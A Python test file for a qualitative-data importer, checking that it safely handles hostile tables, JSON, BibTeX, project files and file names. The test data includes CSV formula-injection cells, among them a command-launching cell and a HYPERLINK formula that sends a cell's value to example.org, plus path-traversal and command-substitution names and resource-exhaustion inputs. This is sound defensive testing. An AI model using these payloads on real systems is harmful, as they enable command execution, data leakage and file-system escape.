    path = MADE["qualcoder"](tmp_path)
    text = "A line that stands here again and again, and again.\n" * 40_000
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("DELETE FROM code_text")
        connection.execute("UPDATE source SET fulltext = ? WHERE id = 1", (text,))
        connection.execute(
            "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c LIMIT 20000) INSERT INTO code_text "
            "(cid, fid, seltext, pos0, pos1, owner) SELECT 1, 1, 'x y', n, 2000000 + n, 'a' FROM c"
        )
        connection.commit()
    refused_within_bounds(path, "the passages and memos of 'interview.docx' have more than 104,857,600 characters")


def test_a_memo_that_many_segments_share_takes_no_memory(tmp_path, monkeypatch):
    monkeypatch.setattr(safe, "MAX_BYTES", 1_000_000)
    path = MADE["requal"](tmp_path)
    many = "WITH RECURSIVE c(n) AS (SELECT 100 UNION ALL SELECT n + 1 FROM c LIMIT 200)"
    projects.change(
        path,
        f"UPDATE memos SET text = '{'x' * 10_000}'",
        f"{many} INSERT INTO segments (project_id, user_id, doc_id, code_id, segment_id, segment_start, segment_end) "
        "SELECT 1, 7, 1, 1, n, 1, 3 FROM c",
        f"{many} INSERT INTO memos_segments_map (memo_id, segment_id) SELECT 1, n FROM c",
    )
    refused(path, "the passages and memos of 'interview' have more than 1,000,000 characters", rule="file-too-big")


# ---- Tables


def table(folder, data, name="table.csv", encoding="utf-8"):
    path = folder / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return path


def test_formulas_of_a_table_are_text_and_nothing_else(tmp_path):
    cells = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", '=HYPERLINK("http://example.org/?"&A1)', "\t=1", "\r=2"]
    made = io.StringIO(newline="")
    csv.writer(made).writerows([["quote", "code", "coder"], *([cell, cell, cell] for cell in cells)])
    report, study = take(table(tmp_path, made.getvalue()))
    assert sum(report.unconfirmed.values()) == len(cells)
    assert {code.label.en for code in study.codes} == {cell.strip() for cell in cells}


@pytest.mark.parametrize(
    ("data", "rule", "words"),
    [
        (b"quote,code\nyes,a\x00b\n", "nul-byte", "table.csv:2"),
        ("quote,code\nübel,a\n".encode("latin-1"), "wrong-encoding", "table.csv:2"),
        ("quote,code\n信任,a\n".encode("utf-16-le"), "wrong-encoding", "table.csv"),
        ("quote,code\nyes,a\n".encode("utf-16-le"), "wrong-encoding", "--encoding utf-16-le reads 'quote,code'"),
        ("quote,code\nyes,a\n".encode("utf-16") + b"\x00", "wrong-encoding", "UTF-16"),
        ("quote,code\n信任,a\n".encode("gb18030"), "wrong-encoding", "table.csv:2"),
        (b'quote,code\nyes,a\n"no,b\n' + b"x\n" * 50, "broken-table", "table.csv:3"),
        (b'quote,code\n"yes"no,b\n', "broken-table", "table.csv:2"),
        (b"quote,code\n" + b"x" * 200_000 + b",a\n", "broken-table", "table.csv:2"),
        (b"," * 5000 + b"\nquote,code\n", "broken-table", "table.csv:1"),
        (b"", "broken-table", "empty"),
        (b"\n" * 1000, "broken-table", "empty"),
    ],
    ids=["NUL", "Latin-1", "UTF-16 without a mark", "UTF-16 without a mark, ASCII", "half a character", "GB 18030",
         "a quotation mark that is not closed", "text behind a quotation mark", "a field of 200 kB", "5,000 columns",
         "empty", "blank lines"],
)  # fmt: skip
def test_a_table_that_cannot_be_read_is_refused_at_its_line(tmp_path, data, rule, words):
    refused(table(tmp_path, data), words, rule=rule)


def test_a_file_that_is_too_big_is_refused_unread(tmp_path):
    path = tmp_path / "table.csv"
    with path.open("wb") as stream:
        stream.truncate(200_000_000)  # a sparse file takes no room
    with pytest.raises(StudyError, match=re.escape("table.csv: error: the file has 200,000,000 bytes")):
        importing.import_file(path, tmp_path / "taken", Options(), DAY)
    assert [p.name for p in tmp_path.iterdir()] == ["table.csv"]


@pytest.mark.slow
@POSIX
def test_fifty_thousand_memos_on_one_coding_take_no_memory(tmp_path):
    """They were joined one by one, and every step was kept: 12 GB from a file of 1 MB."""
    rows = "".join(f"yes,a,memo {n}\n" for n in range(50_000))
    code, said = limited(table(tmp_path, f"quote,code,memo\n{rows}"), seconds=60)
    assert code == 0, said
    assert "49,999  codings that repeat one" in said
    coded = (tmp_path / "taken/codings/table.yaml").read_text("utf-8")
    assert coded.count("memo 49999") == 1
    assert coded.count("quote: yes") == 0
    assert coded.count('quote: "yes"') == 1


@pytest.mark.slow
@POSIX
def test_thirty_thousand_coders_of_one_quote_take_no_time(tmp_path):
    rows = "".join(f"yes,a{n},c{n}\n" for n in range(30_000))
    code, said = limited(table(tmp_path, f"quote,code,coder\n{rows}"), seconds=60)
    assert code == 0, said
    assert "30,000 coders" in said


# ---- JSON


def written(folder, value, name="notes.json"):
    path = folder / name
    path.write_text(value if isinstance(value, str) else json.dumps(value), "utf-8")
    return path


@pytest.mark.parametrize("deep", [900, 5000, 100_000])
@pytest.mark.parametrize("head", ['{"type": "Annotation", "target": %s}', '[{"type": "book", "title": %s}]'])
def test_json_that_is_nested_past_belief_is_refused_or_counted(tmp_path, deep, head):
    if taken := taken_or_refused(written(tmp_path, head % ("[" * deep + "]" * deep))):
        report, study = taken
        assert report.lost
        assert study.sources == study.references == ()


@pytest.mark.parametrize(
    "head", ['{"type": "Annotation", "target": %s}', '[{"type": "book", "title": "x", "volume": %s}]']
)
def test_a_number_of_five_thousand_digits_is_refused(tmp_path, head):
    refused(written(tmp_path, head % ("9" * 5000)), "a number is too long", rule="broken-json")


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_a_number_that_json_does_not_have_is_refused(tmp_path, value):
    refused(written(tmp_path, f'[{{"type": "book", "id": "a", "title": "x", "volume": {value}}}]'), rule="broken-json")


@pytest.mark.parametrize(
    "text",
    [
        '{"type": "Annotation", "target": "a", "target": "b"}',
        '[{"type": "book", "id": "a", "title": "x", "title": "y"}]',
    ],
)
def test_a_key_that_stands_in_an_object_twice_is_refused(tmp_path, text):
    refused(written(tmp_path, text), "twice", "'t", rule="duplicate-key")


def test_bodies_that_hold_themselves_end(tmp_path, monkeypatch):
    monkeypatch.setattr(web_annotation, "MAX_NAMED", 10_000)
    node = {"id": "x", "items": ["x"] * 1000}
    note = {"type": "Annotation", "target": {"source": "p", "selector": {"exact": "yes"}}, "body": "x"}
    path = written(tmp_path, {"@graph": [node], "items": [note]})
    refused(path, "name each other more than 10,000 times", rule="broken-json")


def test_selectors_that_refine_each_other_end(tmp_path, monkeypatch):
    monkeypatch.setattr(web_annotation, "MAX_NAMED", 10_000)
    nodes = [{"id": f"s{n}", "refinedBy": [f"s{n + 1}"] * 10} for n in range(20)]
    note = {"type": "Annotation", "target": {"source": "p", "selector": "s0"}}
    path = written(tmp_path, {"@graph": nodes, "items": [note]})
    refused(path, "name each other more than 10,000 times", rule="broken-json")


@POSIX
def test_twenty_thousand_references_of_one_id_take_no_time(tmp_path):
    path = written(tmp_path, [{"type": "book", "id": "a", "title": f"t{n}"} for n in range(20_000)], "refs.json")
    code, said = limited(path, seconds=40)
    assert code == 0, said
    assert "20,000 references" in said


def test_a_selector_that_many_annotations_share_takes_no_memory(tmp_path, monkeypatch):
    monkeypatch.setattr(safe, "MAX_BYTES", 1_000_000)
    node = {"id": "s", "type": "TextQuoteSelector", "exact": "x" * 10_000}
    notes = [{"type": "Annotation", "target": {"source": "p", "selector": "s"}, "body": []} for _ in range(200)]
    path = written(tmp_path, {"@graph": [node], "items": notes})
    refused(path, "what its annotations say and select has more than 1,000,000", rule="file-too-big")


WRONG = [
    None,
    True,
    7,
    -1,
    1.5,
    "x",
    "",
    [],
    {},
    [[]],
    [None, 7],
    {"id": 7},
    {"@value": []},
    [{"items": {"items": []}}],
]
ANNOTATION = {
    "id": "a", "type": "Annotation", "motivation": "tagging", "created": "2024-03-01", "creator": {"id": "c", "name": "n"},
    "body": [{"type": "TextualBody", "value": "t", "purpose": "tagging"}], "user": "u", "tags": ["k"], "text": "m",
    "document": {"title": ["d"]}, "user_info": {"display_name": "n"}, "references": ["r"], "uri": "p",
    "target": {"source": {"id": "p"}, "selector": [{"type": "TextQuoteSelector", "exact": "yes", "prefix": "p"},
                                                   {"type": "TextPositionSelector", "start": 1, "end": 4},
                                                   {"refinedBy": {"exact": "y"}}]},
}  # fmt: skip
ITEM = {
    "id": "a", "type": "book", "title": "t", "author": [{"family": "f", "given": "g"}], "issued": {"date-parts": [[2014, 5]]},
    "volume": 1, "custom": {"marks": ["company"]}, "citation-key": "a", "keyword": "k", "URL": "u",
}  # fmt: skip


def places(value, path=()):
    """Give the place of every value in a JSON value."""
    yield path
    for key, one in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from places(one, (*path, key))


@pytest.mark.parametrize("wrong", WRONG, ids=map(json.dumps, WRONG))
@pytest.mark.parametrize("whole", [ANNOTATION, ITEM], ids=["annotation", "reference"])
def test_a_value_of_the_wrong_type_anywhere_is_refused_or_counted(tmp_path, whole, wrong):
    for number, path in enumerate(places(whole)):
        value = {"root": json.loads(json.dumps(whole))}
        above = value["root"] if path else value
        for key in path[:-1]:
            above = above[key]
        above[path[-1] if path else "root"] = wrong
        held = (
            [value["root"], {"type": "book", "id": "z", "title": "t"}] if whole is ITEM else [value["root"], ANNOTATION]
        )
        folder = tmp_path / str(number)
        folder.mkdir()
        taken_or_refused(written(folder, held))


# ---- Names

NAMES = [
    "../../x", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "con.txt", "NUL", "COM1", "LPT9.md", "a\x00b", "\u202egpj.exe",
    "x" * 100_000, "信" * 300, "", ".", "..", "...", " ", "-", "~", "$HOME", "`id`", "*?<>|:", "a\nb", "a\tb", "\x07",
    "\x1b[31mred", "e\u0301", "\u0301x", "\ufeff", "x ", "x.", ".hidden", "\u200b", "\u2028", "😀", "ﬁ", "İ", "%2e%2e%2f", "&#x2e;",
]  # fmt: skip
RESERVED = re.compile(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\.|$)")


def safely_named(folder):
    for path in folder.rglob("*"):
        assert not path.is_symlink()
        assert path.resolve().is_relative_to(folder.resolve())
        assert len(path.name.encode()) <= 255
        assert all(c.isalnum() or unicodedata.category(c)[0] == "M" or c in "._-" for c in path.name), path.name
        assert path.name[0].isalnum()
        assert not RESERVED.match(path.name), path.name
        assert not path.name.endswith(".")


@pytest.mark.parametrize("name", NAMES, ids=lambda name: ascii(name[:20])[1:-1])
def test_no_name_in_a_file_becomes_a_path_that_leads_anywhere(tmp_path, name):
    rows = {
        "source": [{"id": 1, "name": name, "fulltext": "It works."}, {"id": 2, "name": f"{name}2", "fulltext": "No."}],
        "code_name": [{"cid": 1, "name": name, "memo": name}],
        "code_cat": [{"catid": 1, "name": name}],
        "code_text": [
            {"cid": 1, "fid": 1, "pos0": 0, "pos1": 2, "seltext": "It", "owner": name, "memo": name, "date": name},
            {"cid": 1, "fid": 2, "pos0": 0, "pos1": 2, "seltext": name, "owner": "b"},
        ],
        "cases": [{"caseid": 1, "name": name, "memo": name}],
        "case_text": [{"caseid": 1, "fid": 1, "pos0": 0, "pos1": 9}],
        "project": [{"memo": name}],
        "journal": [{"name": name, "jentry": name}],
    }
    tables = projects.QUALCODER_FIRST
    path = projects.make(tmp_path / "pilot.qda", tables, rows)
    report, study = take(path)
    assert len(study.sources) == 2
    safely_named(tmp_path / "taken")
    assert not importing.import_file(path, tmp_path / "taken", Options(), DAY).fresh
    assert "\x1b" not in (tmp_path / "taken" / report.path).read_text("utf-8")


@pytest.mark.parametrize(
    "name", ["../../x", "CON", "x" * 100_000, "\u202egpj.exe", "a\x01b"], ids=lambda name: ascii(name[:20])
)
def test_names_in_a_table_are_as_safe(tmp_path, name):
    made = io.StringIO(newline="")
    csv.writer(made).writerows(
        [["quote", "document", "code", "coder", "case", name], ["yes", name, name, name, name, "x"]]
    )
    path = table(tmp_path, made.getvalue())
    _, study = take(path)
    assert len(study.sources) == len(study.codes) == 1
    safely_named(tmp_path / "taken")
    assert not importing.import_file(path, tmp_path / "taken", Options(), DAY).fresh


@POSIX
@pytest.mark.parametrize(
    "name", [b"caf\xe9.csv", b"-rf.csv", b"$(id).csv", b"a\nb.csv", b"CON.csv", b"..csv", b" .csv"]
)
def test_the_file_itself_may_be_called_anything(tmp_path, name):
    path = tmp_path / os.fsdecode(name)
    path.write_bytes(b"quote,code\nyes,a\n")
    report, _ = take(path)
    assert sum(report.unconfirmed.values()) == 1
    safely_named(tmp_path / "taken")


# ---- The file, the target, the disk


@POSIX
def test_a_link_to_a_file_is_read_and_stays_a_link(tmp_path):
    real = project(tmp_path, source(quote(TEXT, "We trust them")))
    (tmp_path / "link").mkdir()
    path = tmp_path / "link" / "study.qdpx"
    path.symlink_to(real)
    assert quotes(take(path)[1]) == [("We trust them", ["trust"])]


@POSIX
@pytest.mark.parametrize(
    "name", ["x.qdpx", "x.qdc", "x.qda", "x.rqda", "x.sqlite3", "x.csv", "x.xlsx", "x.json", "x.bib", "x"]
)
def test_a_pipe_is_refused_and_not_waited_for(tmp_path, name):
    os.mkfifo(tmp_path / name)
    refused(tmp_path / name, "neither a file nor a folder", rule="unreadable-file")


@POSIX
def test_a_pipe_in_a_project_is_refused_and_not_waited_for(tmp_path):
    folder = tmp_path / "pilot.qda"
    folder.mkdir()
    os.mkfifo(folder / "data.qda")
    refused(folder, rule="unknown-format")
    with pytest.raises(StudyError, match="it is no SQLite file"):
        importing.import_file(folder, tmp_path / "taken", Options(), DAY, name="qualcoder")


@pytest.mark.parametrize(
    "name", ["x.qdpx", "x.qdc", "x.qda", "x.rqda", "x.sqlite3", "x.csv", "x.xlsx", "x.json", "x.bib", "x"]
)
def test_a_folder_that_is_called_like_a_file_is_refused(tmp_path, name):
    (tmp_path / name).mkdir()
    (tmp_path / name / "something").write_text("x")
    found = refused(tmp_path / name)
    assert found.rule in ("unknown-format", "broken-archive")


def test_a_file_that_is_not_there_is_refused(tmp_path):
    refused(tmp_path / "none.qdpx", rule="missing-file")


@LINUX
@pytest.mark.parametrize("name", ["x.csv", "x.qdpx", "x.json", "x.qdc", "x.rqda"])
def test_a_file_that_cannot_be_read_is_refused(tmp_path, name):
    path = tmp_path / name
    path.symlink_to("/proc/self/mem")  # whoever asks, its first byte cannot be read
    with pytest.raises(StudyError) as caught:
        importing.import_file(path, tmp_path / "taken", Options(), DAY)
    assert name in str(caught.value)
    assert [p.name for p in tmp_path.iterdir()] == [name]


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may read everything")
def test_a_file_without_permission_is_refused(tmp_path):
    path = project(tmp_path, source())
    path.chmod(0)
    with pytest.raises(StudyError, match="cannot be read: Permission denied"):
        importing.import_file(path, tmp_path / "taken", Options(), DAY)
    assert [p.name for p in tmp_path.iterdir()] == ["study.qdpx"]


@LINUX
def test_a_target_where_nothing_can_be_written_is_refused(tmp_path):
    path = project(tmp_path, source())
    with pytest.raises(StudyError, match="/proc/none/taken: error: cannot be written"):
        importing.import_file(path, Path("/proc/none/taken"), Options(), DAY)


@pytest.mark.parametrize("target", ["pilot.qda", "pilot.qda/taken", "pilot.qda/../pilot.qda/taken"])
def test_a_target_inside_what_is_imported_is_refused(tmp_path, target):
    folder = projects.qualcoder(tmp_path / "pilot.qda")
    before = tree(tmp_path)
    with pytest.raises(StudyError, match="it lies inside the project that is imported"):
        importing.import_file(folder, tmp_path / target, Options(), DAY)
    assert tree(tmp_path) == before


@pytest.mark.parametrize("target", ["study.qdpx", "study.qdpx/taken"])
def test_a_target_that_is_the_file_is_refused(tmp_path, target):
    path = project(tmp_path, source())
    before = tree(tmp_path)
    with pytest.raises(StudyError):
        importing.import_file(path, tmp_path / target, Options(), DAY)
    assert tree(tmp_path) == before


def test_an_import_that_fails_makes_no_folders_on_the_way(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE.replace('name="Trust"', 'name="Trust" guid="x"'))])
    refused(path, into=tmp_path / "a" / "b" / "c")


def test_a_dry_run_of_a_newer_version_changes_nothing(tmp_path):
    """The report was written into a link to the study's own, which then held the newer version for imported."""
    path = two_versions(tmp_path)
    before = tree(tmp_path)
    assert importing.import_file(path, tmp_path / "taken", Options(), DAY, dry_run=True).fresh
    assert tree(tmp_path) == before
    assert importing.import_file(path, tmp_path / "taken", Options(), DAY).fresh


@POSIX
def test_a_full_disk_leaves_nothing_behind(tmp_path):
    """A limit on the size of files is a disk that is full, for whoever writes."""
    text = "A line that is there again.\n" * 40_000
    path = project(tmp_path, source(content=text), texts={})
    limit = (
        f"resource.setrlimit(resource.RLIMIT_FSIZE, (500_000, 500_000)); {_LIMITED.format(limit=LIMIT, seconds=60)[1:]}"
    )
    command = [
        sys.executable,
        "-c",
        f"import resource; {limit}",
        "import",
        str(path),
        "--into",
        str(tmp_path / "a" / "taken"),
    ]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert (done.returncode, "Traceback" in done.stderr) == (2, False), done.stderr
    assert "cannot be written: File too large" in done.stderr
    assert [p.name for p in tmp_path.iterdir()] == ["study.qdpx"]


def made(folder):
    """Return what an import made, without the digest of the file, which holds the time at which it was zipped."""
    held = tree(folder)
    return {
        name: (kind, *(re.sub(rb"\nsha256: .*", b"", data) for data in rest)) for name, (kind, *rest) in held.items()
    }


class Full:
    """Be os.replace until the disk is full."""

    def __init__(self, left):
        self.left, self.replace = left, os.replace

    def __call__(self, old, new):
        self.left -= 1
        if self.left == 0:
            raise OSError(28, "No space left on device", str(new))
        self.replace(old, new)


def two_versions(folder):
    """Make a project and import it; then make a newer version with changed and new documents."""
    first = source(quote(TEXT, "We trust them"))
    path = project(folder, first)
    importing.import_file(path, folder / "taken", Options(), DAY)
    second = first + source(quote(TEXT, "Prices are open.")).replace("T1", "T2").replace("Interview", "Survey")
    changed = {"sources/T1.txt": TEXT + "More.\n", "sources/T2.txt": TEXT + "Else.\n"}
    codes = CODES.replace("</Codes>", '<Code guid="C2" name="Doubt"/></Codes>')
    return project(folder, second, texts=changed, codes=codes)


def test_a_disk_that_is_full_half_way_leaves_the_study_as_it_was_and_importing_again_mends_it(tmp_path, monkeypatch):
    whole = tmp_path / "whole"
    whole.mkdir()
    importing.import_file(two_versions(whole), whole / "taken", Options(), DAY)
    expected = made(whole / "taken")
    for left in range(1, 8):  # six files are changed or new
        folder = tmp_path / str(left)
        folder.mkdir()
        path = two_versions(folder)
        before = tree(folder)
        monkeypatch.setattr(os, "replace", Full(left))
        failed = pytest.raises(StudyError, match="cannot be written: No space left on device")
        with failed if left <= 6 else nullcontext():
            importing.import_file(path, folder / "taken", Options(), DAY)
        monkeypatch.undo()
        if left <= 6:
            assert tree(folder) == before
            importing.import_file(path, folder / "taken", Options(), DAY)
        assert made(folder / "taken") == expected
        assert not importing.import_file(path, folder / "taken", Options(), DAY).fresh


@pytest.mark.parametrize("empty", [True, False])
def test_a_disk_that_is_full_at_the_end_of_a_first_import_leaves_nothing(tmp_path, monkeypatch, empty):
    path = project(tmp_path, source())
    if empty:
        (tmp_path / "taken").mkdir()
    before = tree(tmp_path)
    monkeypatch.setattr(os, "replace", Full(1))
    with pytest.raises(StudyError, match="No space left on device"):
        importing.import_file(path, tmp_path / "taken", Options(), DAY)
    monkeypatch.undo()
    assert tree(tmp_path) == before


# ---- References


def test_braces_of_bibtex_that_are_nested_past_belief_are_refused_or_counted(tmp_path):
    for number, text in enumerate(
        ("{" * 100_000, "{" * 50_000 + "x" + "}" * 50_000, '"' + "{" * 3000 + "}" * 3000 + '"')
    ):
        path = tmp_path / str(number) / "refs.bib"
        path.parent.mkdir()
        path.write_text(f"@book{{a, title = {text}}}\n@book{{b, title = {{It works}}}}\n")
        if taken := taken_or_refused(path):
            assert taken[0].lost or taken[0].taken["references"]


def test_entries_that_inherit_from_one_take_no_memory(tmp_path, monkeypatch):
    monkeypatch.setattr(safe, "MAX_BYTES", 1_000_000)
    path = tmp_path / "refs.bib"
    entries = "".join(f"@book{{k{n}, crossref = {{x}}}}\n" for n in range(200))
    path.write_text(f"{entries}@book{{x, title = {{{'x' * 10_000}}}}}\n")
    refused(path, "its entries, with what they inherit, have more than 1,000,000", rule="file-too-big")


def test_a_day_of_five_thousand_digits_is_no_day(tmp_path):
    path = tmp_path / "refs.bib"
    path.write_text(f"@book{{a, title = {{It works}}, year = 2014, month = may, day = {'9' * 5000}}}")
    (reference,) = take(path)[1].references
    assert reference.csl["issued"] == {"date-parts": [[2014, 5]]}


# ---- Our own records, changed by another


@pytest.fixture
def own(tmp_path):
    """Change the records in a project that this tool wrote, and import it."""
    study = tmp_path / "study"
    shutil.copytree(paths.shipped("seeds") / "template", study)
    (name,) = exports.export(kg.open(study), "refi-qda", tmp_path / "out").files

    def change(edit):
        path = tmp_path / "changed" / "study.qdpx"
        path.parent.mkdir()
        with zipfile.ZipFile(tmp_path / "out" / name) as old:
            held = {n: old.read(n) for n in old.namelist()}
        (records,) = [n for n, data in held.items() if data.startswith(b"{")]
        edit(value := json.loads(held[records]))
        return zipped(path, (held | {records: json.dumps(value)}).items())

    return change


WRONG_RECORDS = {
    "a label that is a text": lambda r: next(iter(r["codes"].values())).update(label="x"),
    "a label that is a list": lambda r: next(iter(r["cases"].values())).update(label=["x"]),
    "a proposition that is a list": lambda r: next(iter(r["lines"].values())).update(proposition=["P1"]),
    "a reference without an id": lambda r: r["references"].append({"type": "book", "title": "x"}),
    "a reference that is empty": lambda r: r["references"].append({}),
    "a study without an id": lambda r: r["study"].pop("id"),
    "an id that leads out": lambda r: next(iter(r["sources"].values())).update(id="../../x"),
    "an id that is reserved": lambda r: next(iter(r["codes"].values())).update(id="CON"),
    "a coder with a number for a name": lambda r: next(iter(r["coders"].values())).update(name=7),
    "a key nobody knows": lambda r: next(iter(r["sources"].values())).update(unknown={"a": [1, None]}),
    "a file elsewhere": lambda r: next(iter(r["sources"].values())).update(file="../../../x.txt"),
    "two sources in one file": lambda r: [s.update(file="sources/same.txt") for s in r["sources"].values()],
}  # fmt: skip


@pytest.mark.parametrize("what", WRONG_RECORDS)
def test_records_that_are_not_what_was_written_are_refused_or_counted(own, what):
    path = own(WRONG_RECORDS[what])
    before = tree(path.parent)
    with suppress(StudyError):
        take(path)
        before = tree(path.parent)
        safely_named(path.parent / "taken")
    assert tree(path.parent) == before


# ---- Found by fuzzing


def test_codes_users_and_cases_that_share_a_guid_are_one_and_counted(tmp_path):
    codes = CODES.replace("</Codes>", '<Code guid="C1" name="Doubt"/></Codes>')
    users = '<Users><User guid="U" name="Ada"/><User guid="U" name="Bo"/></Users>'
    report, study = take(project(tmp_path, source(), codes=users + codes))
    assert [code.label.en for code in study.codes] == ["Trust"]
    assert report.lost["codes that have the key of another"] == 1
    assert report.lost["coders that have the key of another"] == 1


def test_documents_that_share_a_guid_are_both_there(tmp_path):
    made = project(tmp_path, source(content="One.") + source(content="Two."), texts={})
    _, study = take(made)
    assert [(s.id, s.text) for s in study.sources] == [("interview", "One."), ("interview-2", "Two.")]
    assert not importing.import_file(made, tmp_path / "taken", Options(), DAY).fresh


def test_a_second_byte_order_mark_moves_no_position(tmp_path):
    text = "\ufeff" + TEXT
    made = project(
        tmp_path, source(quote(text, "We trust them", name="We trust them")), texts={"sources/T1.txt": "\ufeff" + text}
    )
    _, study = take(made)
    assert quotes(study) == [("We trust them", ["trust"])]
    assert study.sources[0].text == "\ufffd" + TEXT


def test_a_text_that_is_but_byte_order_marks_is_kept(tmp_path):
    assert take(project(tmp_path, source(content="\ufeff\ufeff"), texts={}))[1].sources


def test_a_name_too_long_for_a_key_of_yaml_is_known_when_the_file_is_imported_again(tmp_path):
    name = "x" * 3000
    path = table(tmp_path, f"quote,document,code,{name}\nyes,{name},a,b\n")
    take(path)
    assert not importing.import_file(path, tmp_path / "taken", Options(), DAY).fresh
    path.write_text(path.read_text() + f"no,{name},a,b\n")
    take(path)
    assert len(loader.load(tmp_path / "taken").study.sources) == 1


def test_two_codes_of_one_name_are_known_when_a_newer_version_is_imported(tmp_path):
    codes = CODES.replace("</Codes>", '<Code guid="C2" name="Trust"/></Codes>')
    take(project(tmp_path, source(), codes=codes))
    _, study = take(
        project(tmp_path, source(), codes=codes.replace("</Codes>", '<Code guid="C3" name="New"/></Codes>'))
    )
    assert [code.id for code in study.codes] == ["trust", "trust-2", "new"]


def test_a_field_whose_name_no_file_can_hold_is_counted(tmp_path):
    note = {"type": "Annotation", "target": {"source": "p", "selector": {"exact": "yes"}}, "\ud800": 1}
    path = written(tmp_path, [note])
    report, _ = take(path)
    assert report.lost["field '\ufffd' of annotations"] == 1
    assert not importing.import_file(path, tmp_path / "taken", Options(), DAY).fresh
